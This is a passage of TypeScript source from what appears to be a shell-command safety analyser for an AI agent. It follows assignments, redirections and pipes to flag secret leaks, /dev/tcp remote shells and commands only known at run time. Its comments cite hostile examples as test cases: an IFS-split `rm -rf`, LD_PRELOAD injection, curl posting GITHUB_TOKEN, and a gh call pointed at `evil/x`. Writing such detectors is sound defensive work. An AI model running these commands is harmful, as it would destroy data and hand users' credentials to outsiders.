      const copied = words.map((w, k) => (words.length > 1 && authUse(words[k - 1]?.replace(/^["']|["']$/g, ''), w) ? undefined : credentialNameIn(st, expanding(w), env))).find((x) => x !== undefined);
      if (copied !== undefined) st.namerefs.set(a.name, copied);
      else if (!st.inAltCwd && a.scope !== 'prefix') st.namerefs.delete(a.name);
    }
    // (PATH+=:/dir appends: the value judged is the whole new PATH.)
    // (A prefix on a builtin that starts nothing and reads no configuration — GIT_DIR=x echo — changes nothing.)
    if (!(a.scope === 'prefix' && inert && !/^(PS\d|BASH_\w+|ENV|SHELLOPTS|BASHOPTS|PROMPT_COMMAND|IFS)$/.test(a.name))) assignmentTags(st, a.name, a.append && a.name === 'PATH' ? `$PATH${v}` : v, a.value.static, cwd);
    if (a.name === 'IFS' && a.scope !== 'prefix' && /\S/.test(v)) {
      st.lineTags.tags.add('dynamic-command');
      st.lineTags.notes.push('IFS is changed: later words split in ways a static reading cannot follow');
    }
    // (A prefix IFS holds while the command runs: for eval, source or a function of the line, that is shell text split at its
    // characters — IFS=_ eval 'x=rm_-rf_/home/user; $x' runs rm. A read or an outside program only takes it as a setting.)
    if (a.name === 'IFS' && a.scope === 'prefix' && /\S/.test(v) && runsShellHere(argv, st.functions)) {
      st.lineTags.tags.add('dynamic-command');
      st.lineTags.notes.push(`IFS is set for ${argv.filter((w) => !/^(command|builtin)$/.test(w))[0]}: the text it runs splits in ways a static reading cannot follow`);
    }
    // (On `:`, a special builtin, a prefix persists in posix mode — sh, set -o posix: taken as set.)
    if (a.scope === 'prefix' && !(st.posix && argvWords[0]?.static && argv[0] === ':')) cmdEnv[a.name] = v;
    else {
      // (An array of literal elements is kept whole, for text this shell runs later — a function's body.)
      const arr = a.value.parts.length === 1 && a.value.parts[0]!.kind === 'array' ? a.value.parts[0]!.elements.flatMap(expandBraces) : undefined;
      const all = !a.append && arr?.every((e) => e.static && !e.value.includes('\n')) ? arr.map((e) => e.value).join('\n') : undefined;
      nextEnv = { ...nextEnv, [a.name]: v, [`${a.name}[@]`]: all };
      cmdEnv[a.name] = v;
      cmdEnv[`${a.name}[@]`] = all;
    }
  }
  // (An expansion that assigns — `: ${LD_PRELOAD:=/tmp/x.so}` — is NAME=VALUE for the rest of the line.)
  // (…and holds that value for the commands after it, as an assignment does: : ${https_proxy:=http://h:3128}; export https_proxy.)
  for (const [n, v] of defaultAssignments([...argvWords, ...fc.assignments.map((a) => a.value), ...fc.redirects.map((r) => r.target)].map((w) => w.raw), env)) {
    assignmentTags(st, n, v, !/[$`]/.test(v), cwd);
    nextEnv = { ...nextEnv, [n]: v };
  }
  // Redirections: files written, the file fed to stdin, /dev/tcp.
  const writes: string[] = [];
  let stdin: string | undefined;
  let stdinText: string | undefined;
  // (Text that expands nothing — a quoted here-document, a here-string or echo of quoted words: a `$TOKEN` in it is text.)
  let stdinLiteral = false;
  const fdVars = st.fdVars;
  /** A descriptor named by a variable: a coproc's pipe ('pipe'), a file `exec {v}>f` opened, else undefined. */
  const namedFd = (raw: string): string | undefined => {
    const m = /^"?\$\{?([A-Za-z_]\w*)(\[[01]\])?\}?"?$/.exec(raw);
    if (!m) return undefined;
    if (m[2] !== undefined) return st.coprocs.has(m[1]!) ? 'pipe' : undefined;
    return fdVars.get(m[1]!);
  };
  for (const r of fc.redirects) {
    // (A redirection's target is rewritten as an operand is: "$f.tmp" with f a listed path, "$out/x".)
    const target = fdVarFile(st, r.target.raw) ?? dirStackWord(st, r.target, env) ?? (r.target.static ? r.target.value : dirVarPath(st, r.target.raw) ?? redirectListed(st, r.target.raw, cwd) ?? withGitTop(st, cwd, r.target.value));
    // `{v}>file` / `{v}<file`: v now names the file's descriptor (kept for the line).
    if (r.fdVar && /^(<|<>|>|>>|>\|)$/.test(r.op)) fdVars.set(r.fdVar, posix.resolve(cwd, target.replace(/^~(?=\/|$)/, st.ctx.home)));
    // `>&"$v"` / `<&"${NAME[0]}"`: a descriptor held in a variable — a coproc's pipe, or the file `exec {v}>` opened.
    if ((r.op === '>&' || r.op === '<&') && !r.target.static) {
      const held = namedFd(r.target.raw);
      if (held === 'pipe') continue;
      if (held !== undefined) {
        if (r.op === '<&') stdin = held;
        else writes.push(held);
        continue;
      }
    }
    if (/^\/dev\/(tcp|udp)\//.test(target)) {
      // (A shell or interpreter wired to a socket is a remote shell, whatever the port leads to.)
      const prog = posix.basename(argv[0] ?? '');
      // (…and one held open by `exec N<>/dev/tcp/…` is wired to whatever later reads the descriptor:
      // a shell or interpreter reading it in the same line — sh <&3 — is a remote shell too.)
      const heldForShell = argv.length <= 1 && (/(^|[\s;&|(])(\S*\/)?((ba|z|da|k|mk|a)?sh|python[\d.]*|perl|ruby|node|php|lua|tclsh|source|\.)\b[^;&|\n]*([0-9]?<&\s*\d|\/dev\/fd\/\d)/.test(st.lineText) || (argv[0] === 'exec' && /^<>?$/.test(r.op) && (r.fd ?? 0) === 0 && !r.fdVar));
      // (A readiness probe — </dev/tcp/127.0.0.1/9229 — opens and sends nothing, whatever listens there.)
      if (loopbackSocket(target, r.op === '<' && argv.length === 0) && !isShell(prog) && languageOf(prog) === undefined && !heldForShell) {
        st.localSockets.push(target);
        continue;
      }
      st.lineTags.tags.add('dev-tcp');
      st.lineTags.notes.push(`redirection to ${target} opens a network connection`);
      continue;
    }
    if (r.op === '<<' || r.op === '<<-') [stdinText, stdinLiteral] = [r.heredoc?.body ?? '', r.heredoc?.quoted ?? false];
    else if (r.op === '<<<') [stdinText, stdinLiteral] = [target, r.target.static];
    // `cmd 3< file` (or 2< file: any descriptor but stdin): /dev/fd/3 names the file for this command (kept for the line:
    // a later /dev/fd/3 is at worst the same file).
    else if (r.op === '<' && r.fd !== null && r.fd > 0) st.links.set(`/dev/fd/${r.fd}`, posix.resolve(cwd, target.replace(/^~(?=\/|$)/, st.ctx.home)));
    else if (r.op === '<') stdin = target;
    else if (r.op === '<>') {
      // Opened for reading and writing.
      stdin = target;
      writes.push(target);
    }
    else if ((r.op === '>&' || r.op === '<&') && /^\d+-?$|^-$/.test(target)) {
      // N<&M (or N>&M: both duplicate) makes N what M is — <&3 reads what `exec 3< file` opened earlier in the line, and
      // 4<&3, 0<&7, <&3- (a move) carry it on. The descriptor table is st.links' /dev/fd/N entries.
      const n = r.fd ?? (r.op === '<&' ? 0 : 1);
      const m = target.replace(/-$/, '');
      const opened = m === '' ? undefined : st.links.get(`/dev/fd/${m}`) ?? (m === '0' ? stdin ?? st.shellStdin : undefined);
      if (opened === undefined) continue;
      if (n === 0) stdin = opened;
      else st.links.set(`/dev/fd/${n}`, opened);
      continue;
    }
    else if (!/^\/dev\/(null|stdout|stderr|fd\/\d+)$/.test(target)) {
      // (A CI step's own file appended to — >> "$GITHUB_OUTPUT" — is judged by what it takes, or as its default: ci-files.ts.)
      const step = stepFileWrite(st, target, r.op === '>>' || r.op === '&>>', fc, flat, cwd);
      if (step === null) continue;
      writes.push(step ?? (r.target.static ? literalName(target) : target));
      // Replacing an existing ignore file (not appending to it) may drop the rules that keep secrets
      // out of git; creating one (a new repository) drops nothing.
      const at = posix.resolve(cwd, target.replace(/^~(?=\/|$)/, st.ctx.home));
      if (r.op !== '>>' && rootIgnoreFile(at, st.ctx.projectRoot) && fileExists(st.ctx, at)) st.ignoreRewrites.add(at);
    }
  }
  const resolve = (p: string) => (p.startsWith('~') || p.startsWith('$') || p.startsWith('/') ? p : posix.resolve(cwd, p));
  // (A file the line made as a copy of a secret or a link to one — echo "$GITHUB_TOKEN" > /tmp/b; curl -d @- … < /tmp/b — is that secret.)
  const madeAs = (p: string) => (p.startsWith('/') ? realOf(st, p) ?? p : p);
  // `exec 3< file` opens a descriptor for the rest of the line: /dev/fd/3 and <&3 are that file.
  if (argv.length === 1 && argv[0] === 'exec') {
    for (const r of fc.redirects) if (r.fd !== null && r.fd > 2 && (r.op === '<' || r.op === '<>')) st.links.set(`/dev/fd/${r.fd}`, posix.resolve(cwd, r.target.value.replace(/^~(?=\/|$)/, st.ctx.home)));
    // (…on a process substitution, that descriptor is what its commands print: exec 3< <(gzip -dc p.gz); source /dev/fd/3.)
    for (const r of fc.redirects) if (r.fd !== null && r.fd > 2 && r.op === '<') { if (/^<\(/.test(r.target.raw)) st.substitutedFds.set(`/dev/fd/${r.fd}`, r.target.raw); else st.substitutedFds.delete(`/dev/fd/${r.fd}`); }
    // `exec < file` (or 0<, or 0<&N of a file opened before): every later command of the shell reads that file as its stdin.
    for (const r of fc.redirects) if ((r.fd === null || r.fd === 0) && (r.op === '<' || r.op === '<>')) st.shellStdin = posix.resolve(cwd, r.target.value.replace(/^~(?=\/|$)/, st.ctx.home));
    if (stdin !== undefined && fc.redirects.some((r) => (r.fd === null || r.fd === 0) && r.op === '<&')) st.shellStdin = posix.resolve(cwd, stdin.replace(/^~(?=\/|$)/, st.ctx.home));
  } else if (stdin === undefined && stdinText === undefined && fc.stdinFrom.length === 0 && st.shellStdin !== undefined) stdin = st.shellStdin;
  // A redirection into a path only the running shell knows: no shim sees redirections, so where
  // it lands cannot be checked later either.
  if (writes.some((p) => /^\$(?!\(|\{?(HOME|PWD)\b)/.test(p))) {
    st.lineTags.tags.add('dynamic-path');
    st.lineTags.notes.push('output goes to a path that starts with a variable set at run time');
  }
  rec.writesFiles = writes.map((w) => posix.resolve(cwd, w.replace(/^~(?=\/|$)/, st.ctx.home)));
  // xargs -a FILE (--arg-file=FILE) reads its items from FILE instead of stdin: FILE is its input.
  if (posix.basename(argv[0] ?? '') === 'xargs' && stdin === undefined && fc.stdinFrom.length === 0) {
    // (…by any prefix getopt takes for it: --a, --arg, --arg-f.)
    const xargv = [argv[0]!, ...fullLongOptions(argv.slice(1), GNU_LONG.xargs!)];
    const k = xargv.findIndex((a) => /^(-a|--arg-file)$/.test(a) || /^--arg-file=|^-a./.test(a));
    const file = k < 0 ? undefined : /^(-a|--arg-file)$/.test(xargv[k]!) ? xargv[k + 1] : xargv[k]!.replace(/^--arg-file=|^-a/, '');
    // (/dev/fd/N is what this command's `N< F` or an earlier `exec N< F` opened: xargs -a /dev/fd/3 … 3< .env.)
    const fd = file === undefined ? undefined : /^\/(?:dev|proc\/self)\/fd\/(\d+)$/.exec(file)?.[1];
    const opened = fd === undefined ? undefined : fc.redirects.find((r) => r.fd === Number(fd) && (r.op === '<' || r.op === '<>'))?.target.value ?? st.links.get(`/dev/fd/${fd}`);
    if (opened !== undefined) stdin = opened;
    else if (file !== undefined && !/^\/dev\/fd\/|^<\(/.test(file)) stdin = file;
  }
  // Text piped in from a command whose output is known (echo, printf, a cat heredoc) is this
  // command's stdin as surely as a heredoc: interpreters judge it in their own language.
  // `sh < x.sh`: a file this line wrote is that command's stdin text.
  if (stdinText === undefined && stdin !== undefined) stdinText = st.scripts.get(posix.resolve(cwd, stdin.replace(/^~(?=\/|$)/, st.ctx.home)));
  // `bash < <(echo …)`: a process substitution given as stdin feeds its output.
  if (stdinText === undefined && stdin !== undefined && /^<\(/.test(stdin)) {
    // (What it prints is what its pipeline's last command prints: echo … | base64 -d decoded.)
    const ends = flat.filter((c) => c.origin?.parent === fc.index && c.origin.location === 'redirect' && c.stdoutTo.length === 0);
    const texts = ends.map((c) => info[c.index]?.textOut);
    if (ends.length && texts.every((t) => t !== undefined)) stdinText = texts.join('\n');
  }
  if (stdinText === undefined) {
    for (const up of fc.stdinFrom) {
      const src = info[up];
      const heredoc = src?.name === 'cat' ? flat[up]!.redirects.find((r) => r.heredoc)?.heredoc?.body : undefined;
      if (src?.textOut !== undefined || heredoc !== undefined) [stdinText, stdinLiteral] = [src?.textOut ?? heredoc, flat[up]!.argv.every((w) => w.static) && flat[up]!.redirects.every((r) => (r.heredoc === undefined || r.heredoc.quoted) && (r.op !== '<<<' || r.target.static))];
    }
  }
  // Secret on stdin: a file redirect, or a pipe from a command whose output carries a secret.
  let stdinSecret: string | undefined;
  for (const up of fc.stdinFrom) if (info[up]?.secretOut) stdinSecret = info[up]!.secretOut;
  // A here-string or heredoc that expands a variable holding a secret (<<< "$S") feeds the secret.
  if (stdinSecret === undefined && stdinText !== undefined && !stdinLiteral && (st.secretVars.size || st.sourcedSecret)) {
    for (const m of stdinText.matchAll(/\$\{?([A-Za-z_]\w*)/g)) stdinSecret ??= secretOfVar(st, m[1]!, cmdEnv);
  }
  // (An environment credential in a heredoc fed to a network tool: `curl -d @- … <<< "$GITHUB_TOKEN"`.)
  // (…or to cat, which prints it: msg=$(cat <<EOF … $GITHUB_TOKEN … EOF) holds the credential.)
  // (…or to a service's client, which sends what it reads — vercel env add N --scope other <<< "$GITHUB_TOKEN" — unless it
  // stores it as the project's own setting: wrangler secret put N <<< "$CLOUDFLARE_API_TOKEN".)
  // (…and as the agent's own account: HEROKU_API_KEY=KEY on the line acts as KEY's owner, who may be anyone.)
  // (Through its wrappers: env GH_REPO=evil/x gh …, nice heroku … -a evil, timeout 30 curl -d "$GITHUB_TOKEN" — wrapped-command.ts.)
  const inner = wrappedCommand(argv);
  const innerName = posix.basename(inner.argv[0] ?? '');
  const innerEnv = { ...cmdEnv, ...inner.env };
  const innerCwd = inner.cwd === undefined ? cwd : /^[$`]/.test(inner.cwd) ? UNKNOWN_CWD : posix.resolve(cwd, inner.cwd.replace(/^~(?=\/|$)/, st.ctx.home));
  // (…unless the line re-points that link first: state.ts RELINKS.)
  // (…or a wrapper that acts as another user or loads an environment the line does not show — sudo -u other, dotenv -e
  // .env.x --, direnv exec DIR: its GH_TOKEN, GH_REPO or CLOUDFLARE_ACCOUNT_ID may name anyone.)
  const relinked = (SERVICE_CLIS.test(innerName) || innerName === 'gh') && (RELINKS.test(st.lineText)
    || argv.slice(0, inner.at).some((w) => /^(sudo|doas|su|runuser|pkexec|dotenv|dotenvx|env-cmd|direnv|sops|op|doppler|infisical|chamber|aws-vault|envchain|teller|with-env|varlock)$/.test(posix.basename(w))));
  const ownSetting = ownSettingHere(innerName, inner.argv.slice(1), innerEnv, st.ctx.env, innerCwd, st.ctx.projectRoot) && !relinked;
  const serviceSends = SERVICE_CLIS.test(innerName) && !ownSetting;
  const ghOwnSecret = innerName === 'gh' && inner.argv[1] === 'secret' && inner.argv[2] === 'set' && !namesOtherOwner('gh', inner.argv.slice(3)) && !switchesAccount('gh', innerEnv, st.ctx.env)
    && (innerCwd === st.ctx.projectRoot || innerCwd.startsWith(`${st.ctx.projectRoot}/`)) && !relinked;
  if (stdinSecret === undefined && stdinText !== undefined && !stdinLiteral && (NETWORK_TOOLS.has(innerName) || serviceSends || /^(read|mapfile|readarray|cat)$/.test(argv[0] ?? ''))) {
    // (Also a copy of one, or one named indirectly: t=$GITHUB_TOKEN; … <<< "$t".)
    for (const m of stdinText.matchAll(/\$\{?(!?)([A-Za-z_]\w*)/g)) stdinSecret ??= credentialOf(st, m[2]!, cmdEnv, m[1] === '!');
  }
  // (A credential given to the project's own settings store on stdin is stored there, not sent — echo "$GITHUB_TOKEN" | wrangler secret put GH, printf %s "$PW" | gcloud secrets create pw --data-file=-,
  // as its words are. A secret file's text piped there is still sent: cat .env | fly secrets import.)
  if ((ownSetting || ghOwnSecret) && stdinSecret === ENVIRON) stdinSecret = undefined;
  // What code read from a file named at run time, piped on: possibly a secret (the name is not known).
  const maybeSecret = fc.stdinFrom.some((up) => info[up]?.maybeSecretOut);
  const cmdCtx: Context = { ...st.ctx, cwd, git: gitAt(st.ctx, cwd, st.worktrees), ...(movedOut(st.ctx, cwd, st.worktrees) ? { movedOut: true } : {}), ...(st.clones.has(cwd) ? { freshClone: true } : {}), env: cmdEnv, stdin: stdin ? madeAs(resolve(stdin)) : stdinSecret, stdout: undefined, ...(cwd === UNKNOWN_CWD && st.cwdGuess !== undefined ? { cwdGuess: st.cwdGuess } : {}) };
  // (Only an unquoted `DIR/.*` is a glob there: quoted, it is more often a regex — run-clang-tidy 'src/.*'.)
  // (Under dotglob a leading * or ? matches a leading dot too: * and *env take .env. A loop's variable over a glob, quoted —
  // for f in *; do cat "$f" — holds each name the glob matched.)
  const dotGlobs = argv.filter((a, k) => (argvWords[k]?.glob || (/^"\$\{?[A-Za-z_]\w*\}?"$/.test(argvWords[k]?.raw ?? '') && /[*?]/.test(a))) && (/(^|\/)\.(\*|\[!.\]\*|\[\^.\]\*|\?\*|\?\?\*)$/.test(a) || (st.dotglob && /(^|\/)[*?][^/]*$/.test(a) && nameMatchesGlob(`.${a.slice(a.lastIndexOf('/') + 1)}`, '..env'))));
  if (dotGlobs.length) cmdCtx.dotGlobs = new Set(dotGlobs);
  // (Not an operand the line already read as what its expansion names — a listing's files, a captured directory.)
  const fields = new Map(argv.flatMap((a, k): [string, string[]][] => (k > 0 && argvWords[k] && a === argvWords[k]!.value ? [[a, splitFields(argvWords[k]!)]] : [])).filter(([, f]) => f.length > 0));
  if (fields.size) cmdCtx.splitFields = fields;
  if (maybeSecret && NETWORK_TOOLS.has(innerName)) {
    st.lineTags.tags.add('interpreter-opaque');
    st.lineTags.notes.push(`${innerName} sends what a program read from a file whose name is computed at run time`);
  }

  if (argv.length === 0) {
    const f = newFacts('<redirect>');
    f.writes.push(...writes.map(resolve));
    f.truncates = fc.redirects.filter((r) => r.op === '>' || r.op === '>|' || r.op === '&>').map((r) => resolve(r.target.value));
    // `$(< file)` prints the file, like cat.
    if (stdin) {
      f.reads.push(resolve(stdin));
      // (…and a listing file's names, as cat of it passes them on: ls -A > /tmp/l; cat $(< /tmp/l).)
      const back = st.listings.get(resolve(stdin));
      if (back) { rec.namesOut = back.namesOut; rec.listsUnder = back.listsUnder; }
      if (isSecretPath(st, resolve(stdin), cmdCtx)) {
        rec.secretOut = posix.resolve(cwd, stdin.replace(/^~(?=\/|$)/, st.ctx.home));
        st.readsSecret = true;
      }
    }
    rec.judged = judgeFacts(st.policy, f, [], cmdCtx);
    st.out.push(rec.judged);
    return { info: rec, cwd, env: nextEnv };
  }
  // A function the line defined, called with known words: its body runs here, in this shell,
  // with $1 … filled in (a function calling itself is judged once).
  const fn = argvWords[0]!.static ? st.functions.get(argv[0]!) : undefined;
  const callKey = `fn:${argv.join('\0')}`;
  if (fn !== undefined && !st.expanding.has(callKey)) {
    rec.name = argv[0]!;
    st.calledFunctions.add(argv[0]!);
    st.expanding.add(callKey);
    // (What the call is fed — `f < .env`, a pipe carrying a secret — is the body's stdin.)
    const fed = cmdCtx.stdin !== undefined ? `cat ${quote(cmdCtx.stdin)} | ` : '';
    // A body that shifts its parameters sees each argument in each place: judged once per shift.
    // (One that replaces them with `set --` is judged as written, its $1 unknown.)
    const args = argv.slice(1);
    const shifts = /(^|[\s;&|({])set\s+--/.test(fn) ? -1 : /(^|[\s;&|({])shift\b/.test(fn) ? args.length : 0;
    let end: { cwd?: string; oldpwd?: string; unsure?: boolean; alt?: string[]; env?: Context['env'] } = {};
    // (A variable that captured a directory — ROOT=$(pwd); LOG="$ROOT/.setup.log" — is that path in the body as well, where
    // the text it holds still reads as that path here: the body's own expansion of "$ROOT/…" no longer knows ROOT's place.)
    const bodyEnv = { ...cmdEnv };
    for (const [k, dir] of st.dirVars) {
      const text = cmdEnv[k];
      if (text !== undefined && /[$`]/.test(text) && (dirVarPath(st, `"${text}"`) === dir || capturedDir(st, text, cwd) === dir)) bodyEnv[k] = dir;
    }
    if (shifts < 0) end = st.sub(fed + fn, cwd, bodyEnv, true);
    else for (let k = 0; k <= shifts; k++) end = st.sub(fed + withPositionals(fn, [argv[0]!, ...args.slice(k)]), cwd, bodyEnv, true);
    st.expanding.delete(callKey);
    // The body runs in this shell: what it assigns or exports is what the caller's next commands see
    // (f(){ export GH_HOST=elsewhere; }; f; gh api …). (Read from its last reading.)
    if (end.env) for (const [k, v] of Object.entries(end.env)) if (v !== cmdEnv[k]) nextEnv = { ...nextEnv, [k]: v };
    // A body that changes directory leaves the caller there: where its one reading ends (mkcd() { mkdir -p "$1" && cd "$1"; }),
    // else unknown.
    // (Where the body's own reading ends tells, whatever spelling its cd took — \cd, a nested call, eval.)
    if (CHANGES_DIR.test(fn) || end.cwd !== cwd || (end.alt?.length ?? 0) > 0) {
      if (shifts === 0 && argvWords.every((w) => w.static) && end.cwd !== undefined && end.cwd !== UNKNOWN_CWD && !fed) st.cwdAfter = { cwd: end.cwd, oldpwd: end.oldpwd, unsure: end.unsure, alt: end.alt ?? [] };
      else st.cwdLost = true;
    }
    // (The call itself is judged on as well: what it is fed — `f < .env` — and the words it is given.)
  }
  // Shell aliases defined earlier in the line expand here.
  let alias = st.aliases.get(argv[0]!);
  // (bash: an alias whose text ends in a blank makes the next word an alias too — alias n='nice ' then n w runs
  // nice with w's text. The words so expanded join the alias's text, each name once.)
  let taken = 1;
  for (const seen = new Set([argv[0]!]); alias !== undefined && /[ \t]$/.test(alias) && argvWords[taken]?.static && !seen.has(argv[taken]!) && st.aliases.has(argv[taken]!); taken++) {
    seen.add(argv[taken]!);
    alias += st.aliases.get(argv[taken]!)!;
  }
  if (alias !== undefined && argvWords[0]!.static) {
    // (What runs is the alias's program: line checks see it, e.g. a download run through hash -p.)
    rec.argv = [alias.split(/\s+/)[0]!, ...argv.slice(1)];
    rec.name = posix.basename(rec.argv[0]!);
    // An alias of plain words (py='bash -s') is that program with the words given: judged as it, with what the
    // line feeds it (py <<'EOF' … EOF runs the body as shell). Other text is a line of its own.
    // (Not one that starts with an assignment or a builtin — alias x='LD_PRELOAD=… ls', alias x=export —: those change the
    // shell itself, and are judged as the line they make.)
    if (taken === 1 && /^[\w./+:@%-]+( +[\w./+=:@%-]+)*$/.test(alias.trim()) && !/^(export|declare|typeset|readonly|local|eval|source|\.|set|unset|alias|unalias|builtin|command|enable|exec|cd|pushd|popd|shopt|trap|hash|let|read|mapfile|readarray|printf|ulimit|umask)$/.test(alias.trim().split(/ +/)[0]!)) judgeArgv(st, [...alias.trim().split(/ +/), ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    else st.sub([alias, ...argv.slice(taken).map(quote)].join(' '), cwd, cmdEnv);
    return { info: rec, cwd, env: nextEnv };
  }
  // `a[i]=v` / `a[i]+=v`: an array element assignment (its substitutions are commands of their own).
  // BASH_CMDS[name]=PATH is bash's command hash: `name` now runs PATH (like hash -p).
  const hashed = argv.length === 1 ? /^BASH_CMDS\[['"]?([\w.+-]+)['"]?\]=(.+)$/.exec(argvWords[0]!.value) : null;
  if (hashed) st.aliases.set(hashed[1]!, hashed[2]!);
  if (argv.length === 1 && /^[A-Za-z_]\w*\[[^=]*\]\+?=/.test(argvWords[0]!.raw)) {
    // (An element changed: the whole array kept for later text is no longer the literal one.)
    const name = /^[A-Za-z_]\w*/.exec(argvWords[0]!.raw)![0];
    return { info: rec, cwd, env: { ...nextEnv, [`${name}[@]`]: undefined } };
  }
  // (These read the words of the program the wrappers run — env npm install "$p", nice git "$op": wrapped-command.ts.)
  const iw = argvWords.slice(inner.at);
  // A package manager told to install a name or URL only known at run time (npm install "$(… | base64 -d)").
  if (iw[0]?.static && INSTALLERS.test(innerName) && /^(install|i|add|get)$/.test(iw.find((w, k) => k > 0 && !w.value.startsWith('-'))?.value ?? '') && iw.some((w, k) => k > 1 && !w.static && !w.value.startsWith('-') && !ARGUMENT_WORD.test(w.raw))) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`${innerName} installs a package only known when the line runs`);
  }
  // A tool whose first word picks what it does (git, npm, docker …) given that word only at run
  // time (`npm $p`, `git "$op" origin main`): what it will do is not known.
  // (Past the global options the tool takes before it, read from its table: kubectl -n "$NS" get — "$NS" is a value.
  // An unquoted computed value may split into several words, one of them then standing where the subcommand does:
  // that word is taken for the subcommand; so is a KEY=VALUE value whose key is computed — git -c "$kv".)
  const tool = innerName;
  const subAt = iw[0]?.static && SUBCOMMAND_TOOLS.test(tool) ? 1 + subcommandIndex(tool, inner.argv.slice(1)) : 0;
  const unknownBefore = (w: Word, k: number): boolean => k > 0 && k < subAt && (w.value.startsWith('-')
    // (--config-env="$K=V": a KEY=VALUE attached to its option.)
    ? /^--[\w-]+=/.test(w.value) && keyedOption(tool, w.value.split('=')[0]!) && /[$`]/.test(w.raw.split('=').slice(0, 2).join('='))
    : w.parts.some((p) => (p.kind === 'param' || p.kind === 'command-sub') && !p.quoted) || (keyedOption(tool, inner.argv[k - 1]!) && /[$`]/.test(w.raw.split('=')[0]!)));
  const splitAt = subAt > 0 ? iw.findIndex(unknownBefore) : -1;
  const verbAt = splitAt > 0 ? splitAt : subAt;
  // (A function's or script's own arguments — "$@", $1 — are judged where it is called with them; an
  // argument list a program file computes is judged by that file's own rules.)
  if (verbAt > 0 && !iw[verbAt]!.static && !ARGUMENT_WORD.test(iw[verbAt]!.raw)) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`${tool}'s subcommand ${iw[verbAt]!.raw} is only known when the line runs`);
  }
  // …and a subcommand whose destructive form an option picks (git branch -D, reset --hard) given an unquoted
  // run-time value where an option may stand: the value may split into that option.
  const optionWord = verbAt > 0 && iw[verbAt]!.static ? splitOptionWord(tool, iw, verbAt, st.fieldLoopVars, st.globLoopVars, st.anyGlobLoopVars) : undefined;
  if (optionWord) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`${tool} ${iw[verbAt]!.value}'s options include ${optionWord.raw}, only known when the line runs`);
  }
  // …and find's primaries, sed's script or awk's program given a run-time value where it picks what they do.
  const programWord = argvWords[0]!.static ? computedProgramWord(tool, argvWords, { argumentWord: ARGUMENT_WORD, setHere: (n) => setInLine(st, n), lineText: st.lineText }) : undefined;
  if (programWord) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`what ${argv[0]} does depends on ${programWord.raw}, only known when the line runs`);
  }
  // A command name taken from a variable's default (${RUNNER:-npx}, or R="${RUNNER:-npx}"; $R): the
  // line does not set that variable, the agent's environment may — what runs is not known.
  const fromEnvDefault = (raw: string, depth = 0): string | undefined => {
    for (const m of raw.matchAll(/\$\{([A-Za-z_]\w*):?[-=]/g)) if (!setInLine(st, m[1]!)) return m[1];
    if (depth > 2) return undefined;
    for (const m of raw.matchAll(/\$\{?([A-Za-z_]\w*)/g)) {
      for (const c of flat) for (const a of c.assignments) if (a.name === m[1]) {
        const v = fromEnvDefault(a.value.raw, depth + 1);
        if (v) return v;
      }
    }
    return undefined;
  };
  const envDefault = argvWords[0]!.static && /\$/.test(argvWords[0]!.raw) ? fromEnvDefault(argvWords[0]!.raw) : undefined;
  if (envDefault) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`the command name ${argvWords[0]!.raw} is ${envDefault}'s value when the environment sets it: only known when the line runs`);
  }
  // A command name from a variable the line sets only to plain words (case arms picking a binary
  // for the machine): each of those words is judged as the command; nothing else can run.
  const picked = !argvWords[0]!.static ? pickedCommands(st, argvWords[0]!.raw, fc, flat) : undefined;
  if (picked) {
    for (const c of picked) judgeArgv(st, [...c, ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    return { info: rec, cwd, env: nextEnv };
  }
  // A command name bound to a listing of project paths (for t in build/*_test; do "$t"; done) runs one of the
  // project's files, as ./build/x_test does: judged as that path (a download there is still caught).
  const listedCmd = !argvWords[0]!.static ? listedWord(st, argvWords[0]!.raw, cwd) : undefined;
  // (Not where this line wrote, downloaded or unpacked anything below that directory: the listing may name it.)
  const listedDir = listedCmd?.path.replace(/\/(__listed__|\*)$/, '');
  const madeThere = listedDir !== undefined && madeBelow(st, info, listedDir);
  if (listedCmd && !madeThere && !listedCmd.secret && !listedCmd.at && /\/(__listed__|\*)$/.test(listedCmd.path) && listedCmd.path.startsWith(`${st.ctx.projectRoot}/`)) {
    judgeArgv(st, [listedCmd.path, ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    return { info: rec, cwd, env: nextEnv };
  }
  // A program below a toolchain's own directory, asked of the toolchain ($(go env GOPATH)/bin/golangci-lint,
  // "$(npm prefix)/node_modules/.bin/vitest", "$(yarn bin)/jest"): that directory, as the tool reports it by default.
  const query = !argvWords[0]!.static ? /^"?\$\((go env GOPATH|go env GOBIN|npm prefix|npm root|npm bin|yarn bin|pnpm bin|python3? -m site --user-base|git rev-parse --show-toplevel)\)"?((?:\/[\w.+-]+)+)"?$/.exec(argvWords[0]!.raw) : null;
  const inProject = cwd === st.ctx.projectRoot || cwd.startsWith(`${st.ctx.projectRoot}/`);
  const queried = query === null ? undefined : ({ 'go env GOPATH': `${st.ctx.home}/go`, 'go env GOBIN': `${st.ctx.home}/go/bin`, 'python -m site --user-base': `${st.ctx.home}/.local`, 'python3 -m site --user-base': `${st.ctx.home}/.local` } as Record<string, string>)[query[1]!]
    ?? (inProject ? ({ 'npm prefix': st.ctx.projectRoot, 'npm root': `${st.ctx.projectRoot}/node_modules`, 'npm bin': `${st.ctx.projectRoot}/node_modules/.bin`, 'yarn bin': `${st.ctx.projectRoot}/node_modules/.bin`, 'pnpm bin': `${st.ctx.projectRoot}/node_modules/.bin`, 'git rev-parse --show-toplevel': st.ctx.projectRoot } as Record<string, string>)[query[1]!] : undefined);
  // (Not where the line or the environment moves that directory: GOPATH=/tmp/g, go env -w GOBIN=…, npm_config_prefix.)
  const moved = /\b(GOPATH|GOBIN|GOENV|GOFLAGS|npm_config_prefix|NPM_CONFIG_PREFIX|PYTHONUSERBASE)=|\bgo\s+env\s+-w\b|--prefix\b/.test(st.lineText) || ['GOPATH', 'GOBIN', 'GOENV', 'npm_config_prefix', 'NPM_CONFIG_PREFIX', 'PYTHONUSERBASE'].some((k) => st.ctx.env[k] !== undefined);
  if (query && queried !== undefined && !moved && !madeBelow(st, info, queried) && !/(^|\/)\.\.(\/|$)/.test(query[2]!)) {
